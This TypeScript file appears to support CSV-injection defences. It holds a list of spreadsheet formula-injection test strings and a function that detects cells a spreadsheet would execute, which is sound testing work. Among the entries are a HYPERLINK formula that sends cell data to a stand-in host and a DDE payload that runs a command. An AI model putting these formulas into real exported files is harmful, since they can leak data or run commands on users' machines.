/** Texts that a spreadsheet runs where it finds them in a cell, after the page of OWASP on CSV injection. */
export const hostileFormulas: readonly string[] = [
  '=1+1',
  '+cmd',
  '-1+2',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '\r\n=1',
  '\0=1',
  '\u200b=1',
  ' =1',
  '\u3000=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '=HYPERLINK("http://x.example/?"&A1,"z")',
  "=cmd|'/C calc'!A0",
  '"=1+1',
  'x,=1+1',
  'x;=1+1',
  'x;;=1+1',
  'x; =1+1',
  'x\t=1+1',
  'x\n=1+1',
  'x\r\n=1+1',
  'x";=1+1',
  'x",=1+1',
  "x';=1+1",
];

/** Whether a spreadsheet runs what stands in a cell. A number with a sign is only a number. */
export function isRun(cell: string): boolean {
  return /^[\s\p{C}]*[=+\-@＝＋－＠]/u.test(cell) && !/^[+-]?\d+(\.\d+)?$/.test(cell);
}
